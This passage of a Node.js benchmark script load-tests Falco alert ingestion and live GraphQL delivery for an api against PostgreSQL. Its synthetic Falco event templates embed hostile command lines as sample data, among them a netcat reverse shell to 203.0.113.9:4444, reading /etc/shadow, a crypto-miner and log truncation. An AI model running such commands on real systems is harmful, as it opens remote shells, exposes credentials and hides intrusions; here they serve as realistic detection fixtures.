/**
 * Falco ingest throughput and live delivery: how many falcosidekick events per second the built api
 * accepts and stores, against the rate PostgreSQL takes the same rows as raw batched INSERTs on this
 * machine (the ceiling), and how long an event takes from its POST to a live GraphQL subscriber.
 *
 * Needs the built api (`pnpm --filter @bulwark/api build`) and PostgreSQL (BENCH_DATABASE_URL, default
 * postgres://postgres@127.0.0.1:5432/postgres: a fresh database is created there and dropped after).
 * `--redis` runs the api with REDIS_URL (BENCH_REDIS_URL, default redis://127.0.0.1:6379) so events
 * reach the subscriber through Redis. Run it with `node bench/falco-ingest.mjs`; options:
 * `--seconds N` (each burst, default 10), `--concurrency 16,64,256,512` (the bursts' concurrent requests),
 * `--rate N` and `--paced-seconds N` (the paced phase, default 500 events/s for 10 s),
 * `--ceiling-rows N` (default 50,000), `--batch N` (the ceiling's rows per INSERT, default 500),
 * `--subscribers N` (live subscribers, default 1; the first is timed), `--cpu-prof` (the api writes a V8
 * CPU profile to bench/results/falco-ingest-profile/), `--client raw|node` (below). BENCH_API_FLAGS
 * sets the api's Node options (default `--max-semi-space-size=64`, as `npm start` runs it).
 *
 * Three processes over loopback: this one (orchestrator and the GraphQL subscriber), the api, and a
 * load generator posting one event per request on keep-alive connections, as falcosidekick does
 * (`--client raw`, the default: a lean HTTP/1.1 client over `net`, as wrk is, so the generator takes
 * little of the CPU the api needs; `--client node`: Node's HTTP client), to `POST /api/falco/:clusterId/create?key=` with a falco_ingest key bound to the cluster.
 * Events are falcosidekick payloads of syscall and k8s_audit rules over 20 namespaces, 60 images and
 * 12 nodes, every priority, each with its own uuid. Phases: a warm-up; a paced phase (open loop at a
 * fixed rate, latency from each event's scheduled time); then one closed-loop burst per concurrency
 * (requests sent as fast as they are answered; with the raw client its connections are opened before its clock
 * starts, as falcosidekick keeps its connections open). Per phase: events acknowledged (201) per second,
 * POST→201 latency, POST→subscriber latency (a graphql-ws client subscribed to falcoEventAdded in
 * this process, matched by uuid), and the api's, PostgreSQL's and the load generator's CPU time per event. Then the stored
 * count (SELECT count) is compared with the acknowledged count. With the api stopped, the ceiling
 * inserts the same rows into the same falco_events table on one connection, in batches (unnest,
 * multi-row VALUES, and one jsonb_to_recordset parameter; the fastest counts), and deletes them.
 * Targets: best events/s ≥ 5,000; best/ceiling ≥ 0.3; POST→subscriber p99 ≤ 250 ms (paced and at the
 * best burst); stored = acknowledged. Figures go to stdout and bench/results/falco-ingest.json
 * (falco-ingest-redis.json with --redis).
 */
import { fork, spawn } from "node:child_process";
import { createHash, randomBytes, randomUUID } from "node:crypto";
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { Agent, request } from "node:http";
import { createConnection } from "node:net";
import { createRequire } from "node:module";
import os from "node:os";
import { dirname, join } from "node:path";
import { performance } from "node:perf_hooks";
import { fileURLToPath } from "node:url";
import { parseArgs } from "node:util";

const here = dirname(fileURLToPath(import.meta.url));
const SELF = fileURLToPath(import.meta.url);
const main = join(here, "../packages/api/dist/src/main.js");
const requireApi = createRequire(join(here, "../packages/api/package.json"));

const SEED = 20261127;
/** Node options of the api: those `npm start` runs it with (scripts/bulwark.mjs), unless BENCH_API_FLAGS says otherwise. */
const apiFlags = (process.env.BENCH_API_FLAGS ?? "--max-semi-space-size=64").split(" ").filter(Boolean);
const TEMPLATES = 2_000;
const TARGET_EVENTS_PER_SECOND = 5_000;
const TARGET_RATIO = 0.3;
const TARGET_P99_MS = 250;
/** How long to wait for the subscriber to receive what a phase acknowledged. */
const DRAIN_MS = 5_000;

const { values: args } = parseArgs({
  options: {
    role: { type: "string", default: "orchestrate" },
    seconds: { type: "string", default: "10" },
    concurrency: { type: "string", default: "16,64,256,512" },
    rate: { type: "string", default: "500" },
    "paced-seconds": { type: "string", default: "10" },
    "ceiling-rows": { type: "string", default: "50000" },
    batch: { type: "string", default: "500" },
    redis: { type: "boolean", default: false },
    "cpu-prof": { type: "boolean", default: false },
    client: { type: "string", default: "raw" },
    subscribers: { type: "string", default: "1" },
  },
});

// ------------------------------------------------------------------------------------ the events

/** mulberry32: the same sequence on every machine. */
function prng(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const hex = (random, n) => Array.from({ length: n }, () => Math.floor(random() * 16).toString(16)).join("");

/** Falco's own rules (syscall source), with the output fields each prints. */
const SYSCALL_RULES = [
  {
    rule: "Terminal shell in container",
    priority: "Notice",
    weight: 20,
    tags: ["container", "maturity_stable", "mitre_execution", "shell", "T1059"],
    text: "A shell was spawned in a container with an attached terminal",
    fields: { "evt.type": "execve", "proc.name": "sh", "proc.cmdline": "sh -c uptime", "proc.pname": "runc" },
    tty: 34816,
  },
  {
    rule: "Read sensitive file untrusted",
    priority: "Warning",
    weight: 12,
    tags: ["container", "filesystem", "host", "maturity_stable", "mitre_credential_access", "T1555"],
    text: "Sensitive file opened for reading by non-trusted program",
    fields: { "evt.type": "openat", "fd.name": "/etc/shadow", "proc.name": "cat", "proc.cmdline": "cat /etc/shadow" },
  },
  {
    rule: "Contact K8S API Server From Container",
    priority: "Notice",
    weight: 14,
    tags: ["container", "k8s", "maturity_stable", "mitre_discovery", "network", "T1565"],
    text: "Unexpected connection to K8s API Server from container",
    fields: {
      "evt.type": "connect",
      "fd.name": "10.0.12.7:51324->10.96.0.1:443",
      "proc.name": "curl",
      "proc.cmdline": "curl -sk https://kubernetes.default.svc/api/v1/namespaces",
    },
  },
  {
    rule: "Drop and execute new binary in container",
    priority: "Critical",
    weight: 3,
    tags: ["container", "maturity_stable", "mitre_persistence", "PCI_DSS_11.5.1", "TA0003"],
    text: "Executing binary not part of base image",
    fields: {
      "evt.type": "execve",
      "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
      "proc.name": "xmrig",
      "proc.cmdline": "xmrig --donate-level 1 -o stratum+tcp://pool.example.net:3333",
      "proc.exepath": "/tmp/xmrig",
    },
  },
  {
    rule: "Write below etc",
    priority: "Error",
    weight: 4,
    tags: ["filesystem", "host", "maturity_stable", "mitre_persistence", "T1098"],
    text: "File below /etc opened for writing",
    fields: {
      "evt.type": "openat",
      "fd.name": "/etc/hosts",
      "proc.name": "sed",
      "proc.cmdline": "sed -i s/a/b/ /etc/hosts",
    },
  },
  {
    rule: "Clear Log Activities",
    priority: "Warning",
    weight: 5,
    tags: ["container", "filesystem", "host", "maturity_stable", "mitre_defense_evasion", "NIST_800-53_AU-10", "T1070"],
    text: "Log files were tampered",
    fields: {
      "evt.type": "openat",
      "fd.name": "/var/log/app.log",
      "proc.name": "truncate",
      "proc.cmdline": "truncate -s0 /var/log/app.log",
    },
  },
  {
    rule: "Redirect STDOUT/STDIN to Network Connection in Container",
    priority: "Notice",
    weight: 4,
    tags: ["container", "maturity_stable", "mitre_execution", "network", "process", "T1059"],
    text: "Redirect stdout/stdin to network connection",
    fields: {
      "evt.type": "dup2",
      "fd.name": "10.0.3.4:40012->203.0.113.9:4444",
      "proc.name": "bash",
      "proc.cmdline": "bash -i",
    },
  },
  {
    rule: "Packet socket created in container",
    priority: "Notice",
    weight: 3,
    tags: ["container", "maturity_stable", "mitre_credential_access", "network", "T1557.002"],
    text: "Packet socket was created in a container",
    fields: { "evt.type": "socket", "proc.name": "tcpdump", "proc.cmdline": "tcpdump -i eth0" },
  },
  {
    rule: "Launch Privileged Container",
    priority: "Informational",
    weight: 6,
    tags: ["container", "cis", "maturity_incubating", "mitre_execution", "T1610"],
    text: "Privileged container started",
    fields: { "evt.type": "container", "container.privileged": true, "proc.name": "runc", "proc.cmdline": "runc init" },
  },
  {
    rule: "Mount Launched in Privileged Container",
    priority: "Warning",
    weight: 2,
    tags: ["container", "cis", "filesystem", "maturity_sandbox", "mitre_privilege_escalation", "T1611"],
    text: "Mount was executed inside a privileged container",
    fields: { "evt.type": "execve", "proc.name": "mount", "proc.cmdline": "mount /dev/sda1 /mnt" },
  },
  {
    rule: "Detect outbound connections to common miner pool ports",
    priority: "Critical",
    weight: 1,
    tags: ["host", "container", "maturity_sandbox", "mitre_impact", "network", "T1496"],
    text: "Outbound connection to IP/Port flagged by https://cryptoioc.ch",
    fields: {
      "evt.type": "connect",
      "fd.name": "10.0.5.2:51002->198.51.100.7:3333",
      "proc.name": "kworkerds",
      "proc.cmdline": "kworkerds",
    },
  },
  {
    rule: "Container Drift Detected (chmod)",
    priority: "Error",
    weight: 2,
    tags: ["container", "filesystem", "maturity_sandbox", "mitre_execution", "process", "T1059"],
    text: "Drift detected (chmod), new executable created in a container",
    fields: {
      "evt.type": "chmod",
      "evt.arg.filename": "/tmp/run.sh",
      "evt.arg.mode": "S_IXUSR",
      "proc.name": "chmod",
      "proc.cmdline": "chmod +x /tmp/run.sh",
    },
  },
  {
    // a site's own rule: Falco's stock rules print nothing below informational
    rule: "Inbound connection to a service port",
    priority: "Debug",
    weight: 2,
    tags: ["container", "network", "site"],
    text: "Inbound connection accepted",
    fields: {
      "evt.type": "accept",
      "fd.name": "10.0.7.1:36120->10.0.3.4:8080",
      "proc.name": "node",
      "proc.cmdline": "node server.js",
    },
  },
  {
    rule: "Netcat Remote Code Execution in Container",
    priority: "Alert",
    weight: 1,
    tags: ["container", "maturity_stable", "mitre_execution", "network", "process", "T1059"],
    text: "Netcat runs inside container that allows remote code execution",
    fields: { "evt.type": "execve", "proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.9 4444" },
  },
  {
    rule: "Change thread namespace",
    priority: "Emergency",
    weight: 0.2,
    tags: ["container", "maturity_stable", "mitre_privilege_escalation", "process", "T1611"],
    text: "Namespace change (setns) by unexpected program",
    fields: { "evt.type": "setns", "proc.name": "nsenter", "proc.cmdline": "nsenter -t 1 -m -u -i -n sh" },
  },
];

/** Rules of the k8s_audit plugin, as the falco-k8saudit deployment sends them. */
const AUDIT_RULES = [
  { rule: "Attach/Exec Pod", priority: "Notice", weight: 6, verb: "create", resource: "pods", subresource: "exec" },
  {
    rule: "K8s Serviceaccount Created",
    priority: "Informational",
    weight: 3,
    verb: "create",
    resource: "serviceaccounts",
  },
  { rule: "Disallowed K8s User", priority: "Warning", weight: 3, verb: "patch", resource: "volumeattachments" },
  { rule: "Create Privileged Pod", priority: "Warning", weight: 1, verb: "create", resource: "pods" },
];

const NAMESPACES = [...Array.from({ length: 20 }, (_, i) => `team-${i}`), "kube-system", "bulwark"];
const NODES = Array.from({ length: 12 }, (_, i) => `ip-10-0-${i}-${17 + i * 3}.ec2.internal`);
const IMAGES = Array.from({ length: 60 }, (_, i) => ({
  repository:
    i % 10 === 0
      ? `docker.io/library/${["nginx", "redis", "postgres", "alpine", "busybox", "node"][i % 6]}`
      : `ghcr.io/example/service-${i}`,
  tag: i % 7 === 0 ? "" : `1.${i % 9}.${i % 4}`,
}));

/** A falcosidekick payload (one alert) with placeholders for what changes per event. */
function eventTemplates() {
  const random = prng(SEED);
  const all = [
    ...SYSCALL_RULES.map((r) => ({ ...r, source: "syscall" })),
    ...AUDIT_RULES.map((r) => ({ ...r, source: "k8s_audit" })),
  ];
  const total = all.reduce((s, r) => s + r.weight, 0);
  const pick = () => {
    let roll = random() * total;
    for (const r of all) if ((roll -= r.weight) <= 0) return r;
    return all[0];
  };
  const templates = [];
  for (let i = 0; i < TEMPLATES; i++) {
    const r = pick();
    // 3 % in the agent's and the system namespaces, which the built-in rule silences
    const namespace = random() < 0.03 ? NAMESPACES[20 + (i % 2)] : NAMESPACES[Math.floor(random() * 20)];
    const image = IMAGES[Math.floor(random() * IMAGES.length)];
    const app = image.repository.split("/").pop();
    const pod = `${app}-${hex(random, 10)}-${hex(random, 5)}`;
    const node = NODES[Math.floor(random() * NODES.length)];
    let payload;
    if (r.source === "syscall") {
      const containerId = hex(random, 12);
      const user = r.rule === "Contact K8S API Server From Container" ? "app" : "root";
      const reference = image.tag ? `${image.repository}:${image.tag}` : image.repository;
      const fields = {
        "evt.time": "__EVT__",
        ...r.fields,
        "container.id": containerId,
        "container.name": app,
        "container.image.repository": image.repository,
        "container.image.tag": image.tag,
        "k8s.ns.name": namespace,
        "k8s.pod.name": pod,
        "proc.pname": r.fields["proc.pname"] ?? "bash",
        "proc.tty": r.tty ?? 0,
        "user.loginuid": -1,
        "user.name": user,
        "user.uid": user === "root" ? 0 : 1000,
      };
      payload = {
        uuid: "__UUID__",
        output: `__CLOCK__: ${r.priority} ${r.text} (user=${user} user_loginuid=-1 process=${fields["proc.name"]} command=${fields["proc.cmdline"]} parent=${fields["proc.pname"]} terminal=${fields["proc.tty"]} container_id=${containerId} container_name=${app} image=${reference} k8s_ns=${namespace} k8s_pod_name=${pod})`,
        priority: r.priority,
        rule: r.rule,
        time: "__TIME__",
        output_fields: fields,
        source: "syscall",
        tags: r.tags,
        hostname: node,
      };
    } else {
      const user = random() < 0.5 ? "kubernetes-admin" : `system:serviceaccount:${namespace}:deployer`;
      const target =
        r.resource === "pods"
          ? pod
          : r.resource === "serviceaccounts"
            ? `sa-${hex(random, 4)}`
            : `csi-${hex(random, 40)}`;
      const fields = {
        "evt.time": "__EVT__",
        "ka.response.code": r.verb === "create" ? "201" : "200",
        "ka.target.name": target,
        ...(r.resource === "volumeattachments" ? {} : { "ka.target.namespace": namespace }),
        "ka.target.resource": r.resource,
        ...(r.subresource ? { "ka.target.subresource": r.subresource, "ka.uri.param[command]": "sh" } : {}),
        "ka.user.name": user,
        "ka.verb": r.verb,
      };
      payload = {
        uuid: "__UUID__",
        output: `__CLOCK__: ${r.priority} ${r.rule} (user=${user} target=${target} resource=${r.resource} ns=${namespace} verb=${r.verb})`,
        priority: r.priority,
        rule: r.rule,
        time: "__TIME__",
        output_fields: fields,
        source: "k8s_audit",
        tags: ["k8s"],
        hostname: `falco-k8saudit-${hex(random, 9)}-${hex(random, 5)}`,
      };
    }
    templates.push({
      ...compile(payload),
      middle: `${hex(random, 4)}-4${hex(random, 3)}-${"89ab"[i % 4]}${hex(random, 3)}`,
    });
  }
  return templates;
}

/** The payload's JSON split around its placeholders, so an event is a few string concatenations. */
function compile(payload) {
  const json = JSON.stringify(payload);
  const parts = [];
  const slots = [];
  let last = 0;
  for (const match of json.matchAll(/"__EVT__"|__UUID__|__TIME__|__CLOCK__/g)) {
    parts.push(json.slice(last, match.index));
    slots.push(match[0]);
    last = match.index + match[0].length;
  }
  parts.push(json.slice(last));
  return { parts, slots };
}

/**
 * Event number `seq` of a run: its uuid ends with the number (12 hex digits), so the subscriber can
 * tell which event arrived; its time is now with nanoseconds, and evt.time the same in nanoseconds.
 */
function renderEvent(templates, run, seq, ms = Date.now()) {
  const t = templates[seq % templates.length];
  const iso = new Date(ms).toISOString();
  const nanos = String((seq * 7919) % 1_000_000).padStart(6, "0");
  const values = {
    __UUID__: `${run}-${t.middle}-${seq.toString(16).padStart(12, "0")}`,
    __TIME__: `${iso.slice(0, 23)}${nanos}Z`,
    __CLOCK__: `${iso.slice(11, 23)}${nanos}`,
    '"__EVT__"': `${ms}${nanos}`,
  };
  let body = t.parts[0];
  for (let i = 0; i < t.slots.length; i++) body += values[t.slots[i]] + t.parts[i + 1];
  return body;
}

const seqOf = (uuid) => parseInt(uuid.slice(-12), 16);

// ------------------------------------------------------------------------------------ statistics

function percentile(sorted, p) {
  if (sorted.length === 0) return null;
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))];
}

function distribution(values) {
  const sorted = Float64Array.from(values).sort();
  const round = (v) => (v === null ? null : Math.round(v * 10) / 10);
  return {
    count: sorted.length,
    p50Ms: round(percentile(sorted, 50)),
    p90Ms: round(percentile(sorted, 90)),
    p99Ms: round(percentile(sorted, 99)),
    maxMs: round(sorted.length ? sorted[sorted.length - 1] : null),
  };
}

/** A Float64Array that grows, indexed by event number; NaN where nothing was recorded. */
class Times {
  constructor() {
    this.values = new Float64Array(1 << 16).fill(NaN);
  }
  set(i, v) {
    if (i >= this.values.length) {
      const grown = new Float64Array(Math.max(this.values.length * 2, i + 1)).fill(NaN);
      grown.set(this.values);
      this.values = grown;
    }
    this.values[i] = v;
  }
  get(i) {
    return i < this.values.length ? this.values[i] : NaN;
  }
}

/** Milliseconds on a clock every process of this machine shares. */
const now = () => performance.timeOrigin + performance.now();

// ------------------------------------------------------------------------------------------ load

/**
 * A lean HTTP/1.1 client, as load generators such as wrk are: keep-alive connections over `net`, each
 * with one request in flight (as falcosidekick sends), the request written in one piece and the
 * response read by its status line, Content-Length and body. It leaves the CPU to the api.
 */
class RawConnections {
  constructor(port, path) {
    this.port = port;
    this.head = `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUser-Agent: Falcosidekick\r\nContent-Type: application/json\r\nContent-Length: `;
    this.idle = [];
    this.all = new Set();
  }

  connection() {
    // A connection the server has closed (its keep-alive timeout) is never reused.
    for (let idle = this.idle.pop(); idle; idle = this.idle.pop()) if (!idle.socket.destroyed) return idle;
    const socket = createConnection({ host: "127.0.0.1", port: this.port, noDelay: true });
    const c = { socket, buffer: Buffer.alloc(0), pending: null };
    this.all.add(c);
    socket.on("data", (chunk) => {
      c.buffer = c.buffer.length ? Buffer.concat([c.buffer, chunk]) : chunk;
      this.read(c);
    });
    const closed = (error) => {
      this.all.delete(c);
      const at = this.idle.indexOf(c);
      if (at >= 0) this.idle.splice(at, 1);
      const pending = c.pending;
      c.pending = null;
      pending?.({ status: 0, body: String(error?.code ?? "connection closed") });
    };
    socket.on("error", closed);
    socket.on("close", () => closed());
    return c;
  }

  read(c) {
    const end = c.buffer.indexOf("\r\n\r\n");
    if (end < 0 || !c.pending) return;
    const head = c.buffer.toString("latin1", 0, end);
    const length = Number(/\r\ncontent-length: *(\d+)/i.exec(head)?.[1] ?? 0);
    if (c.buffer.length < end + 4 + length) return;
    const body = c.buffer.toString("utf8", end + 4, end + 4 + length);
    c.buffer = c.buffer.subarray(end + 4 + length);
    const resolve = c.pending;
    c.pending = null;
    if (/\r\nconnection: *close/i.test(head)) c.socket.end();
    else this.idle.push(c);
    resolve({ status: Number(head.slice(9, 12)), body });
  }

  /** Opens `count` connections and waits until they are connected (before a phase's clock starts). */
  async open(count) {
    const opened = Array.from({ length: count }, () => this.connection());
    await Promise.all(
      opened.map(
        (c) =>
          new Promise((resolve) => {
            if (!c.socket.connecting) resolve();
            else c.socket.once("connect", resolve).once("error", resolve);
          }),
      ),
    );
    this.idle.push(...opened);
  }

  post(body) {
    return new Promise((resolve) => {
      const c = this.connection();
      c.pending = resolve;
      c.socket.write(`${this.head}${Buffer.byteLength(body)}\r\n\r\n${body}`);
    });
  }

  destroy() {
    for (const c of this.all) c.socket.destroy();
  }
}

/** Posts events as the orchestrator asks: { closed: seconds, concurrency } or { open: seconds, rate }. */
async function load() {
  const { port, path, run, client } = await new Promise((resolve) => process.once("message", resolve));
  const templates = eventTemplates();
  let nextSeq = 0;

  // Node's HTTP client: what most Node callers would use, and heavy (it competes with the api for CPU).
  const nodePost = (agent, seq) =>
    new Promise((resolve) => {
      const body = renderEvent(templates, run, seq);
      const req = request(
        {
          host: "127.0.0.1",
          port,
          path,
          method: "POST",
          agent,
          headers: {
            "content-type": "application/json",
            "content-length": Buffer.byteLength(body),
            "user-agent": "Falcosidekick",
          },
        },
        (res) => {
          const chunks = [];
          res.on("data", (c) => chunks.push(c));
          res.on("end", () => resolve({ status: res.statusCode, body: Buffer.concat(chunks).toString() }));
        },
      );
      req.on("error", (error) => resolve({ status: 0, body: String(error.code ?? error.message) }));
      req.end(body);
    });
  const post = client === "node" ? nodePost : (connections, seq) => connections.post(renderEvent(templates, run, seq));

  const phase = async (command) => {
    const agent =
      client === "node"
        ? new Agent({ keepAlive: true, maxSockets: command.concurrency ?? 256 })
        : new RawConnections(port, path);
    const seqStart = nextSeq;
    const sentAt = new Times();
    const ackedAt = new Times();
    const latencies = [];
    const statuses = {};
    const samples = {};
    let acked = 0;
    // falcosidekick keeps its connections open: a burst's are opened before its clock starts.
    if (command.closed !== undefined && client !== "node") await agent.open(command.concurrency);
    const cpuBefore = process.cpuUsage();
    const one = async (scheduled) => {
      const seq = nextSeq++;
      const started = now();
      sentAt.set(seq - seqStart, started);
      const { status, body } = await post(agent, seq);
      const done = now();
      statuses[status] = (statuses[status] ?? 0) + 1;
      if (status === 201) {
        acked++;
        ackedAt.set(seq - seqStart, done);
        latencies.push(done - (scheduled ?? started));
      } else if (!samples[status]) samples[status] = body.slice(0, 300);
    };
    const began = now();
    if (command.closed !== undefined) {
      const end = began + command.closed * 1000;
      const worker = async () => {
        while (now() < end) await one();
      };
      await Promise.all(Array.from({ length: command.concurrency }, worker));
    } else {
      const total = Math.round(command.rate * command.open);
      const interval = 1000 / command.rate;
      const pending = [];
      let issued = 0;
      await new Promise((resolve) => {
        const tick = () => {
          const due = Math.min(total, Math.floor((now() - began) / interval) + 1);
          while (issued < due) pending.push(one(began + issued++ * interval));
          if (issued >= total) resolve();
          else setTimeout(tick, Math.max(0, began + issued * interval - now()));
        };
        tick();
      });
      await Promise.all(pending);
    }
    const seconds = (now() - began) / 1000;
    const cpu = process.cpuUsage(cpuBefore);
    agent.destroy();
    const count = nextSeq - seqStart;
    return {
      seqStart,
      sent: count,
      acked,
      seconds: Math.round(seconds * 1000) / 1000,
      eventsPerSecond: Math.round(acked / seconds),
      statuses,
      samples,
      postTo201: distribution(latencies),
      loadCpuMsPerSecond: Math.round((cpu.user + cpu.system) / 1000 / seconds),
      sentAt: sentAt.values.slice(0, count),
      ackedAt: ackedAt.values.slice(0, count),
    };
  };

  process.on("message", async (command) => process.send({ result: await phase(command) }));
  process.send({ ready: true });
}

// ----------------------------------------------------------------------------------- orchestrate

const TICKS_PER_SECOND = 100;

/** When the newest file under `dir` was written (which build of the api ran). */
function newestFileTime(dir) {
  let newest = 0;
  for (const entry of readdirSync(dir, { withFileTypes: true, recursive: true })) {
    if (entry.isFile()) newest = Math.max(newest, statSync(join(entry.parentPath ?? entry.path, entry.name)).mtimeMs);
  }
  return new Date(newest).toISOString();
}

/** CPU milliseconds used so far by one process, from /proc. */
function processCpuMs(pid) {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
    const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
    return ((Number(fields[11]) + Number(fields[12])) * 1000) / TICKS_PER_SECOND;
  } catch {
    return 0;
  }
}

/** CPU milliseconds used so far by each PostgreSQL server process on this machine, by pid. */
function postgresCpuMs() {
  const byPid = new Map();
  for (const entry of readdirSync("/proc")) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const stat = readFileSync(`/proc/${entry}/stat`, "utf8");
      if (stat.slice(stat.indexOf("(") + 1, stat.lastIndexOf(")")) === "postgres")
        byPid.set(entry, processCpuMs(entry));
    } catch {
      // the process ended meanwhile
    }
  }
  return byPid;
}

/** CPU the PostgreSQL processes used between two readings (a process that ended meanwhile is left out). */
function postgresCpuSince(before) {
  let total = 0;
  for (const [pid, ms] of postgresCpuMs()) total += ms - (before.get(pid) ?? 0);
  return total;
}

function once(proc, predicate) {
  return new Promise((resolve, reject) => {
    const onExit = (code) => reject(new Error(`the load process exited with ${code}`));
    const onMessage = (message) => {
      if (!predicate(message)) return;
      proc.off("message", onMessage);
      proc.off("exit", onExit);
      resolve(message);
    };
    proc.on("message", onMessage);
    proc.once("exit", onExit);
  });
}

/** The api's group-commit batches so far (count and events), from its Prometheus metrics. */
async function batches(url) {
  try {
    const text = await (await fetch(`${url}/metrics`)).text();
    const read = (name) => Number(new RegExp(`^${name} (\\S+)$`, "m").exec(text)?.[1] ?? NaN);
    return {
      count: read("bulwark_falco_ingest_batch_size_count"),
      events: read("bulwark_falco_ingest_batch_size_sum"),
    };
  } catch {
    return { count: NaN, events: NaN };
  }
}

async function graphql(url, key, query, variables) {
  const res = await fetch(`${url}/graphql`, {
    method: "POST",
    headers: { "content-type": "application/json", authorization: `Bearer ${key}` },
    body: JSON.stringify({ query, variables }),
  });
  const body = await res.json();
  if (body.errors) throw new Error(JSON.stringify(body.errors));
  return body.data;
}

/** Subscribes to falcoEventAdded for the cluster and records when each event (by number) arrives. */
function subscribe(port, key, clusterId) {
  const { createClient } = requireApi("graphql-ws");
  const WebSocket = requireApi("ws");
  const arrivals = new Times();
  const state = { delivered: 0, duplicates: 0, error: null };
  const client = createClient({
    url: `ws://127.0.0.1:${port}/graphql`,
    webSocketImpl: WebSocket,
    connectionParams: { authorization: `Bearer ${key}` },
    retryAttempts: 0,
  });
  client.subscribe(
    {
      // what a live table shows
      query: `subscription($f: FalcoEventFilter) {
        falcoEventAdded(filter: $f) { id uuid time priority rule output namespace pod container image anomaly silenced }
      }`,
      variables: { f: { clusterId } },
    },
    {
      next: (value) => {
        const at = now();
        const uuid = value.data?.falcoEventAdded?.uuid;
        if (!uuid) {
          state.error ??= JSON.stringify(value).slice(0, 500);
          return;
        }
        const seq = seqOf(uuid);
        if (!Number.isNaN(arrivals.get(seq))) state.duplicates++;
        else arrivals.set(seq, at);
        state.delivered++;
      },
      error: (error) => (state.error ??= error instanceof Error ? error.message : JSON.stringify(error)),
      complete: () => undefined,
    },
  );
  return { arrivals, state, close: () => client.dispose() };
}

/** POST→subscriber and 201→subscriber latencies of a phase, after waiting for its events to arrive. */
async function deliveries(result, subscriber) {
  const ackedSeqs = [];
  for (let i = 0; i < result.sent; i++) if (!Number.isNaN(result.ackedAt[i])) ackedSeqs.push(i);
  const missing = () => ackedSeqs.filter((i) => Number.isNaN(subscriber.arrivals.get(result.seqStart + i))).length;
  let left = missing();
  let lastProgress = now();
  while (left > 0 && !subscriber.state.error && now() - lastProgress < DRAIN_MS) {
    await new Promise((r) => setTimeout(r, 100));
    const nowLeft = missing();
    if (nowLeft < left) lastProgress = now();
    left = nowLeft;
  }
  const fromPost = [];
  const fromAck = [];
  for (const i of ackedSeqs) {
    const at = subscriber.arrivals.get(result.seqStart + i);
    if (Number.isNaN(at)) continue;
    fromPost.push(at - result.sentAt[i]);
    fromAck.push(at - result.ackedAt[i]);
  }
  return { postToSubscriber: { ...distribution(fromPost), missing: left }, ackToSubscriber: distribution(fromAck) };
}

/** The row the api stores for a payload, per the ingest contract, for the ceiling's INSERTs. */
function rowOf(payload, clusterId) {
  const f = payload.output_fields ?? {};
  const value = (v) => (v === undefined || v === null || v === "" || v === "<NA>" ? null : String(v));
  const first = (...keys) => {
    for (const k of keys) if (value(f[k]) !== null) return value(f[k]);
    return null;
  };
  const namespace = first("k8s.ns.name", "ka.target.namespace", "k8smeta.ns.name");
  const pod =
    first("k8s.pod.name", "k8smeta.pod.name") ??
    (f["ka.target.resource"] === "pods" ? value(f["ka.target.name"]) : null);
  const repository = value(f["container.image.repository"]);
  const tag = value(f["container.image.tag"]);
  const image = repository ? (tag ? `${repository}:${tag}` : repository) : value(f["container.image"]);
  const signature = createHash("sha256")
    .update(`${clusterId}\n${payload.rule}\n${namespace ?? ""}\n${image ?? ""}`)
    .digest("hex");
  return {
    id: randomUUID(),
    clusterId,
    uuid: payload.uuid ?? null,
    time: payload.time,
    receivedAt: new Date().toISOString(),
    priority: payload.priority.toLowerCase(),
    rule: payload.rule,
    source: payload.source ?? null,
    output: payload.output,
    hostname: value(payload.hostname) ?? value(f.hostname),
    namespace,
    pod,
    container: first("container.name", "container.id"),
    image,
    process: first("proc.name"),
    commandLine: first("proc.cmdline"),
    user: first("user.name", "ka.user.name"),
    tags: payload.tags ?? [],
    signature,
    anomaly: false,
    silenced: namespace === "bulwark" || namespace === "kube-system",
    outputFields: JSON.stringify(f),
  };
}

const COLUMNS = [
  ["id", "uuid"],
  ["cluster_id", "uuid"],
  ["uuid", "text"],
  ["time", "timestamptz"],
  ["received_at", "timestamptz"],
  ["priority", '"FalcoPriority"'],
  ["rule", "text"],
  ["source", "text"],
  ["output", "text"],
  ["hostname", "text"],
  ["namespace", "text"],
  ["pod", "text"],
  ["container", "text"],
  ["image", "text"],
  ["process", "text"],
  ["command_line", "text"],
  ["user_name", "text"],
  ["tags", "text[]"],
  ["signature", "text"],
  ["anomaly", "boolean"],
  ["silenced", "boolean"],
  ["output_fields", "jsonb"],
];
const KEYS = [
  "id",
  "clusterId",
  "uuid",
  "time",
  "receivedAt",
  "priority",
  "rule",
  "source",
  "output",
  "hostname",
  "namespace",
  "pod",
  "container",
  "image",
  "process",
  "commandLine",
  "user",
  "tags",
  "signature",
  "anomaly",
  "silenced",
  "outputFields",
];
const columnList = COLUMNS.map(([c]) => `"${c}"`).join(", ");

/** A PostgreSQL array literal of texts, for unnest's text[] of tag lists. */
const arrayLiteral = (values) => `{${values.map((v) => `"${v.replace(/["\\]/g, "\\$&")}"`).join(",")}}`;

/** One batch as unnest over one array per column (a tag list travels as its array literal). */
function unnestInsert(rows) {
  const params = KEYS.map((key) => rows.map((r) => (key === "tags" ? arrayLiteral(r.tags) : r[key])));
  const select = COLUMNS.map(([c, type]) => (type === "text[]" ? `u.c${c}::text[]` : `u.c${c}`)).join(", ");
  const arrays = COLUMNS.map(([, type], i) => `$${i + 1}::${type === "text[]" ? "text" : type}[]`).join(", ");
  const names = COLUMNS.map(([c]) => `c${c}`).join(", ");
  return {
    text: `INSERT INTO falco_events (${columnList}) SELECT ${select} FROM unnest(${arrays}) AS u(${names})`,
    values: params,
  };
}

/** One batch as a multi-row VALUES list. */
function valuesInsert(rows) {
  const values = [];
  const tuples = rows.map((r) => {
    const cells = COLUMNS.map(([, type], i) => {
      values.push(r[KEYS[i]]);
      return `$${values.length}::${type}`;
    });
    return `(${cells.join(", ")})`;
  });
